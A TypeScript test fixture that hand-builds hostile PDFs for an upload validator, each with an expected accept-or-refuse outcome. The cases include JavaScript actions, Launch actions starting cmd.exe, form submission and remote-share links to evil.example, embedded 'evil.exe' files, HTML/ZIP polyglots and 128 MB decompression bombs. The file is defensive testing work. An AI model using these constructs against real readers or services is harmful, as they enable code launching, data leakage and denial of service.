import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFHexString, PDFName, StandardFonts } from '@cantoo/pdf-lib'
import { noise } from '#tests/modules/market/requests/pictures.ts'
import { CANARY, type Hostile, HTML, hostile, mutate, SCRIPT } from './hostile.ts'
import * as parts from './parts.ts'

const LIMIT = 5 * 1024 * 1024
const TAKEN = { picture: 'refused', document: 'taken' } as const
const REFUSED = { picture: 'refused', document: 'refused' } as const
const EITHER = { picture: 'refused' } as const
const pdf = (name: string, bytes: Uint8Array | string, fate: object = REFUSED) =>
  hostile(name, bytes, 'application/pdf', fate)

const stream = (dict: string, data: Buffer | string) =>
  `<< ${dict} /Length ${Buffer.from(data as string, 'latin1').length} >>\nstream\n${Buffer.from(data as string, 'latin1').toString('latin1')}\nendstream`

interface Shape {
  /** Put into the catalogue, the page, the trailer; objects from 5 on. */
  catalog?: string
  page?: string
  trailer?: string
  content?: string
  more?: readonly string[]
  header?: string
}

/** A PDF of one page, written by hand. */
function pdfOf({
  catalog = '',
  page = '',
  trailer = '',
  content,
  more = [],
  header = '%PDF-1.7\n',
}: Shape = {}): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R ${page} >>`,
    content ?? stream('', '0 0 m 100 100 l S'),
    ...more,
  ]
  let text = header
  const offsets = objects.map((object, nth) => {
    const at = text.length
    text += `${nth + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`
  return Buffer.from(`${text}xref\n0 ${size}\n0000000000 65535 f \n${table}${end}`, 'latin1')
}

/** Every hostile PDF. */
export async function hostilePdfs(): Promise<Hostile[]> {
  const licence = await makeSoundPdf()
  return [
    pdf('a sound PDF', licence, TAKEN),
    pdf('a sound PDF written by hand', pdfOf(), TAKEN),
    pdf('a PDF that opens at its first page', pdfOf({ catalog: '/OpenAction [3 0 R /Fit]' }), TAKEN),
    ...activePdfs(),
    ...(await activePdfsInStreams()),
    ...disguisedPdfs(licence),
    ...(await pdfsWithMetadata()),
    ...heavyPdfs(),
    ...brokenPdfs(licence),
    ...pdfsNearLimit(),
  ]
}

async function makeSoundPdf(): Promise<Buffer> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  document.addPage([300, 300]).drawText('Waste carrier licence', { font, x: 20, y: 200 })
  document.addPage([300, 300]).drawImage(await document.embedJpg(await noise(40, 30).jpeg().toBuffer()))
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

/** PDFs that run, open, send or carry something. */
function activePdfs(): Hostile[] {
  const script = `<< /S /JavaScript /JS (app.alert\\('${CANARY}'\\)) >>`
  const file = `<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>`
  const annotation = (action: string) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`,
  })
  const shapes: Record<string, Shape> = {
    'a script when it opens': { catalog: `/OpenAction ${script}` },
    'a script when it opens, elsewhere': { catalog: '/OpenAction 5 0 R', more: [script] },
    'a script by its name': { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` },
    'a script on its page': { page: `/AA << /O ${script} >>` },
    'a script when it is printed': { catalog: `/AA << /WP ${script} >>` },
    'a script on a link': annotation(script),
    'a script after a link': annotation(`<< /S /URI /URI (https://kerbside.example) /Next ${script} >>`),
    'a script in a stream': {
      catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>',
      more: [stream('', `alert('${CANARY}')`)],
    },
    'a script that nothing leads to': { more: [script] },
    'a script with its name in hex': { catalog: `/OpenAction << /S /#4a#61vaScript /#4A#53 (alert) >>` },
    'a script in a form': {
      catalog: `/AcroForm << /Fields [5 0 R] >>`,
      more: [`<< /FT /Tx /T (a) /AA << /K ${script} >> >>`],
    },
    'a program to start': { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' },
    'a program to start on a link': annotation('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    'a form that sends itself': annotation('<< /S /SubmitForm /F (https://evil.example) >>'),
    'data to import': annotation('<< /S /ImportData /F (evil.fdf) >>'),
    'a way into another file': annotation('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'),
    'a way into an embedded file': annotation('<< /S /GoToE /T << /R /C /N (a) >> >>'),
    'an embedded file': {
      catalog: `/Names << /EmbeddedFiles << /Names [(a) ${file}] >> >>`,
      more: [stream('/Type /EmbeddedFile', 'MZ')],
    },
    'an attached file': {
      page: `/Annots [<< /Type /Annot /Subtype /FileAttachment /FS ${file} /Rect [0 0 9 9] >>]`,
      more: [stream('', 'MZ')],
    },
    'a film': { page: '/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] >>]' },
    'rich media': { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> /Rect [0 0 9 9] >>]' },
    'a model': { page: '/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>]' },
    'a form in XML': {
      catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
      more: [stream('', `<xdp:xdp>${SCRIPT}</xdp:xdp>`)],
    },
    'a stream that is elsewhere': { content: stream('/F (https://evil.example/a)', '') },
    'a lock': {
      trailer: '/Encrypt 5 0 R /ID [<00> <00>]',
      more: ['<< /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -44 >>'],
    },
  }
  return Object.entries(shapes).map(([name, shape]) => pdf(`a PDF with ${name}`, pdfOf(shape)))
}

/** Active PDFs whose actions are compressed into object streams, where no search for words finds them. */
async function activePdfsInStreams(): Promise<Hostile[]> {
  const withAction = async (change: (document: PDFDocument) => unknown) => {
    const document = await PDFDocument.create()
    document.addPage()
    await change(document)
    return Buffer.from(await document.save({ useObjectStreams: true }))
  }
  const opening = (document: PDFDocument, action: Record<string, PDFName | PDFHexString>) =>
    document.catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj(action)))
  const js = PDFHexString.fromText(`app.alert('${CANARY}')`)
  const script = await withAction((document) => opening(document, { S: PDFName.of('JavaScript'), JS: js }))
  expectPacked(script)
  const locked = await PDFDocument.load(await withAction(() => undefined))
  locked.encrypt({ userPassword: 'secret', ownerPassword: 'secret' })
  return [
    pdf('a PDF with a packed script when it opens', script),
    pdf(
      'a PDF with a packed script by its name',
      await withAction((document) => document.addJavaScript('a', `app.alert('${CANARY}')`)),
    ),
    pdf(
      'a PDF with a packed program to start',
      await withAction((document) => opening(document, { S: PDFName.of('Launch'), F: js })),
    ),
    pdf('a PDF with a packed file', await withAction((document) => document.attach(Buffer.from('MZ'), 'evil.exe'))),
    pdf('a PDF with a packed form in XML', await withAction((document) => opening(document, { XFA: js }))),
    pdf('a PDF with a password', await locked.save({ useObjectStreams: true })),
  ]
}

function expectPacked(bytes: Buffer): void {
  if (bytes.includes('JavaScript')) throw new Error('The script is not packed: this file proves nothing')
}

/** PDFs that other programs would take for another format. */
function disguisedPdfs(licence: Buffer): Hostile[] {
  const behind = (name: string, payload: Buffer | string) =>
    pdf(`a PDF with ${name} behind it`, Buffer.concat([licence, Buffer.from(payload as string)]), TAKEN)
  const before = (name: string, payload: Buffer | string) =>
    pdf(`a PDF behind ${name}`, Buffer.concat([Buffer.from(payload as string), licence]))
  return [
    behind('a page', HTML),
    behind('an archive', parts.zip()),
    behind('a program', `MZ\x90\0${CANARY}`),
    behind('a picture', Buffer.from(`GIF89a${CANARY}`)),
    before('a page', HTML),
    before('an archive', parts.zip()),
    before('a GIF', `GIF89a${CANARY}`),
    before('blanks', ' '.repeat(100)),
    pdf('a PDF with a page as its remark', pdfOf({ header: `%PDF-1.7\n%${HTML}\n` }), TAKEN),
    pdf('a PDF with a page between its objects', pdfOf({ content: `${stream('', 'S')}\nendobj\n${HTML}\n` }), EITHER),
    pdf('a PDF with a page in a stream that is drawn', pdfOf({ content: stream('', HTML) }), TAKEN),
    pdf('a PDF with a page in a stream that nothing leads to', pdfOf({ more: [stream('', HTML)] }), TAKEN),
    pdf(
      'a PDF with an archive in a stream',
      pdfOf({ more: [stream('', parts.zip())], page: '/Resources << /XObject << /A 5 0 R >> >>' }),
      TAKEN,
    ),
    pdf('a PDF with a page in a picture that is none', pdfOf({ content: stream('/Filter /DCTDecode', HTML) })),
    pdf('a PDF with a page in a packed stream that is not', pdfOf({ content: stream('/Filter /FlateDecode', HTML) })),
    pdf(
      'a PDF with a page in stored blocks',
      pdfOf({ content: stream('/Filter /FlateDecode', deflateSync(HTML, { level: 0 })) }),
    ),
    pdf(
      'a PDF with a page behind a packed stream',
      pdfOf({ content: stream('/Filter /FlateDecode', Buffer.concat([deflateSync('S'), Buffer.from(HTML)])) }),
      TAKEN,
    ),
    pdf('a PDF with a page in a scan', pdfOf({ content: stream('/Filter /CCITTFaxDecode', HTML) })),
  ]
}

/** PDFs that say where their photo was taken, or who made them. */
async function pdfsWithMetadata(): Promise<Hostile[]> {
  const photo = await noise(40, 30).withExif(parts.EXIF).jpeg().toBuffer()
  const commented = parts.jpegWith(
    photo,
    parts.segment(0xfe, SCRIPT),
    parts.app(1, `http://ns.adobe.com/xap/1.0/\0${parts.XMP}`),
  )
  const picture = (bytes: Buffer) => ({
    page: '/Resources << /XObject << /A 5 0 R >> >>',
    more: [
      stream(
        '/Type /XObject /Subtype /Image /Width 40 /Height 30 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        bytes.toString('latin1'),
      ),
    ],
  })
  return [
    pdf('a PDF with a photo and its place', pdfOf(picture(photo)), TAKEN),
    pdf('a PDF with a photo and remarks', pdfOf(picture(commented)), TAKEN),
    pdf('a PDF with a photo and a page behind it', pdfOf(picture(Buffer.concat([photo, Buffer.from(HTML)]))), TAKEN),
    pdf('a PDF with half a photo', pdfOf(picture(photo.subarray(0, photo.length >> 1)))),
    pdf(
      'a PDF with XMP',
      pdfOf({ catalog: '/Metadata 5 0 R', more: [stream('/Type /Metadata /Subtype /XML', parts.XMP)] }),
      TAKEN,
    ),
    pdf(
      'a PDF that names its author',
      pdfOf({ trailer: '/Info 5 0 R', more: [`<< /Author (${CANARY}) /Title (${SCRIPT}) >>`] }),
      TAKEN,
    ),
    pdf(
      'a PDF with the notes of a program',
      pdfOf({ page: `/PieceInfo << /Any << /Private (${CANARY}) >> >>` }),
      TAKEN,
    ),
  ]
}

/** Small files that use a lot of memory or time. */
function heavyPdfs(): Hostile[] {
  const zeros = deflateSync(Buffer.alloc(128 * 1024 * 1024)).toString('latin1')
  const nested = (depth: number) => '['.repeat(depth)
  const names = Array.from({ length: 400_000 }, (_, nth) => `/${nth.toString(36)}`).join('')
  const references = Array.from({ length: 60_000 }, () => '1 0 R ').join('')
  return [
    pdf('a PDF whose page unpacks to 128 MB', pdfOf({ content: stream('/Filter /FlateDecode', zeros) })),
    pdf(
      'a PDF whose objects unpack to 128 MB',
      pdfOf({ more: [stream('/Type /ObjStm /N 9 /First 9 /Filter /FlateDecode', zeros)] }),
    ),
    pdf(
      'a PDF whose table unpacks to 128 MB',
      pdfOf({ more: [stream('/Type /XRef /Size 99999999 /W [1 2 1] /Filter /FlateDecode', zeros)] }),
    ),
    pdf('a PDF with objects without end', pdfOf({ more: [stream('/Type /ObjStm /N 999999999 /First 9', '5 0 6 0 ')] })),
    pdf('a PDF nested a million deep', pdfOf({ catalog: `/A ${nested(1_000_000)}` })),
    pdf('a PDF nested five thousand deep', pdfOf({ catalog: `/A ${nested(5_000)}${']'.repeat(5_000)}` }), EITHER),
    pdf('a PDF with a dictionary in a dictionary, on and on', pdfOf({ catalog: '/A << '.repeat(200_000) })),
    pdf('a PDF with 400,000 names', pdfOf({ catalog: `/A [${names}]` }), EITHER),
    pdf('a PDF with 60,000 references', pdfOf({ catalog: `/A [${references}]` }), EITHER),
    pdf('a PDF whose stream has no end', pdfOf({ content: '<< /Length 99999999 >>\nstream\nS' })),
    pdf(
      'a PDF whose stream is shorter than nothing',
      pdfOf({ content: '<< /Length -99 >>\nstream\nS\nendstream' }),
      EITHER,
    ),
    pdf('a PDF whose page is its own parent', pdfOf({ page: '/Kids [3 0 R]' })),
    pdf('a PDF whose pages go round', pdfOf({ page: '/Kids [2 0 R]' })),
    pdf('a PDF of brackets', `%PDF-1.7\n${'<<'.repeat(1_000_000)}\nstartxref\n0\n%%EOF`),
    pdf('a PDF of objects that begin', `%PDF-1.7\n${'1 0 obj '.repeat(300_000)}\nstartxref\n0\n%%EOF`),
    pdf('a PDF of blanks', `%PDF-1.7\n${' '.repeat(4_000_000)}\nstartxref\n0\n%%EOF`),
  ]
}

function brokenPdfs(licence: Buffer): Hostile[] {
  const lengths = [
    5,
    9,
    15,
    100,
    licence.length >> 2,
    licence.length >> 1,
    licence.length - 300,
    licence.length - 60,
    licence.length - 8,
  ]
  return [
    ...lengths.map((length) => pdf(`a PDF that ends after ${length} bytes`, licence.subarray(0, length))),
    ...Array.from({ length: 14 }, (_, seed) => pdf(`a PDF with wrong bytes, ${seed}`, mutate(licence, seed), EITHER)),
    pdf('a PDF without pages', Buffer.from(pdfOf().toString('latin1').replace('[3 0 R]', '[]'), 'latin1')),
    pdf('a PDF without its page', Buffer.from(pdfOf().toString('latin1').replace('[3 0 R]', '[9 0 R]'), 'latin1')),
    pdf(
      'a PDF without what is on its page',
      Buffer.from(pdfOf().toString('latin1').replace('/Contents 4', '/Contents 9'), 'latin1'),
    ),
    pdf(
      'a PDF without a catalogue',
      Buffer.from(pdfOf().toString('latin1').replace('/Type /Catalog /Pages', '/Kind /Catalog /Leaves'), 'latin1'),
    ),
  ]
}

/** PDFs of 5 MB and a byte less, filled up with a comment. */
const pdfsNearLimit = (): Hostile[] =>
  [-1, 0].map((more) => {
    const size = LIMIT + more
    const bare = pdfOf({ content: stream('', '') })
    const filled = Buffer.concat([bare, Buffer.from('%'.padEnd(size - bare.length, 'x'))])
    return pdf(`a PDF of 5 MB ${more === 0 ? 'exactly' : 'less one byte'}`, filled, TAKEN)
  })
